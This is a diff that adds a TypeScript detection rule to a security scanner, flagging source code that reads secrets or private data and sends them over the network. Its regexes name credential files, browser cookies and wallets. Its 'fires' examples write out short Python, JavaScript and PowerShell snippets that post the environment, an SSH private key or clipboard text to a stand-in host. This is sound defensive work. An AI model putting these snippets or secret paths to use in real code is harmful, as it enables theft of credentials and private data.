@@ -1,0 +1,85 @@
+import type { Document } from '../../document.ts'
+import { defineRule, type Hit } from '../../rule.ts'
+import { type Block, blocks, type Request, requestsIn } from '../../signals/blocks.ts'
+import { isForeign, isLocal, isStandIn } from '../../signals/hosts.ts'
+
+/** Reading of files that hold keys, or of the environment as a whole. */
+const SECRETS =
+  /(?:open|read_text|readfile(?:sync)?|read_to_string|get-content|file\.read|fs\.read\w{0,12}|path|expanduser|glob|join|copy|walk)\b[^\n]{0,80}(?:\.ssh\b(?!\/known)|id_rsa|id_ed25519|\.aws\b|\.netrc|\.npmrc|\.docker\/config|\.kube\b|\.git-credentials|\.gnupg|\/etc\/shadow|\/etc\/passwd|cookies|login data|wallet|keystore|\.env\b|_history|gcloud|auth\.json|credentials(?:\.json)?["'])|dict\(os\.environ\)|os\.environ\.(?:items|copy|values)\(|(?:str|dumps|json)\(?\s?\(?os\.environ\b(?!\.get|\[)|for \w{1,30}(?:, ?\w{1,30})? in os\.environ|[=:] ?os\.environ\s{0,4}[,)}\n]|stringify\(process\.env\b|object\.(?:entries|keys|values)\(process\.env\)|\.\.\.process\.env|[:=] ?process\.env\s{0,4}[,;})\n]|env::vars\(\)|os\.environ\(\)|env\.to_h|getenvironmentvariables\(|(?:gci|get-childitem|dir) env:|keyring\.get_password|win32crypt|browser_cookie3|localstorage\b(?!\.(?:get|set)item\(["']theme)|document\.cookie/
+
+/** The clipboard, the screen, the keys that are pressed, the microphone. */
+const PRIVATE =
+  /pyperclip\.paste|clipboard\.(?:paste|readtext|gettext)|get-clipboard|imagegrab\.grab|pyautogui\.screenshot|\bmss\(|screenshot\(|copyfromscreen|keyboard\.(?:listener|on_press|record)|pynput|sounddevice\.rec|getusermedia|cv2\.videocapture|_history\b|chat_?history|conversation(?:_history)?\b|messages\.map|system_prompt/
+
+const MACHINE =
+  /platform\.(?:node|uname|platform)\(|gethostname\(|getpass\.getuser|os\.(?:hostname|userinfo|getlogin)\(|uuid\.getnode|\bos\.uname\(|\$env:computername|\$env:username/
+
+/** An hour, a day or a count that must come first. */
+const DELAYED =
+  /\b(?:if|while|when)\b[^\n]{0,120}(?:now\(|today\(|time\(\)|new date|date\.now|getday\(|gethours\(|weekday\(|\.hour\b|\.day\b|run_count|counter)[^\n]{0,60}[<>=]/
+
+export default defineRule({
+  id: 'secret-upload-code',
+  since: 1,
+  category: 'exfiltration',
+  severity: 'crit',
+  confidence: 'high',
+  cwe: 'CWE-201',
+  title: 'Code reads secrets and sends them over the network',
+  description:
+    'A piece of source code reads credentials, the whole environment, the clipboard or the screen and posts something to another machine.',
+  remediation:
+    'Remove the code. A service that needs a key takes that one key in its sign-in header.',
+  harmlessIf: 'the code runs on the author’s own server and the target is theirs as well',
+  needs: [
+    ['network', 'fetcher'],
+    ['secretFile', 'environmentDump', 'secret', 'watcher', 'machineFact', 'personal'],
+  ],
+  examples: {
+    fires: [
+      '```python\nimport os, requests\nrequests.post("https://in.fieldlog.example/e", json=dict(os.environ))\n```\n',
+      '```js\nconst key = fs.readFileSync(home + "/.ssh/id_rsa", "utf8")\nawait fetch("https://in.fieldlog.example/k", { method: "POST", body: key })\n```\n',
+      '```python\ntext = pyperclip.paste()\nurllib.request.urlopen("https://in.fieldlog.example/c", data=text.encode())\n```\n',
+      '```powershell\n$e = Get-ChildItem Env: | ConvertTo-Json\nInvoke-RestMethod -Method Post -Uri https://in.fieldlog.example/e -Body $e\n```\n',
+    ],
+    quiet: [
+      '```python\nkey = os.environ["OPENAI_API_KEY"]\nrequests.post("https://api.openai.com/v1/x", headers={"Authorization": key}, json=body)\n```\n',
+      '```js\nconst text = await navigator.clipboard.readText()\nrender(text)\n```\n',
+      '```python\nenv = dict(os.environ)\nsubprocess.run(["make"], env=env)\n```\n',
+      '```js\nawait fetch("http://localhost:3000/items", { method: "POST", body: JSON.stringify(process.env) })\n```\n',
+    ],
+  },
+  *match(document: Document): Iterable<Hit> {
+    for (const block of document.observe(blocks)) {
+      const text = document.reading.text.slice(block.start, block.end)
+      const secret = SECRETS.exec(text)
+      const taken = secret ?? PRIVATE.exec(text) ?? MACHINE.exec(text)
+      if (!taken) continue
+      const sent = requestsIn(document, block).find(
+        ({ address }) => address === '' || (!isLocal(address) && isReached(document, address)),
+      )
+      if (!sent) continue
+      const loot = secret ? 'secret' : PRIVATE.test(taken[0]) ? 'private' : 'machine'
+      yield hit(block, block.start + taken.index, sent, loot, DELAYED.test(text))
+    }
+  },
+})
+
+const isReached = (document: Document, address: string): boolean =>
+  isForeign(document, address) || isStandIn(address)
+
+function hit(
+  block: Block,
+  taken: number,
+  { start, end, address }: Request,
+  loot: 'secret' | 'private' | 'machine',
+  delayed: boolean,
+): Hit {
+  const place = { start: Math.min(taken, start), end: Math.min(block.end, Math.max(taken, end)) }
+  const named = address !== '' && !isStandIn(address)
+  if (named && loot !== 'machine') return { ...place, firm: true }
+  if (named || (loot === 'secret' && delayed)) return { ...place, severity: 'high', firm: true }
+  if (loot === 'secret' && address !== '')
+    return { ...place, severity: 'high', confidence: 'medium' }
+  return { ...place, severity: loot === 'secret' ? 'med' : 'low', confidence: 'medium' }
+}
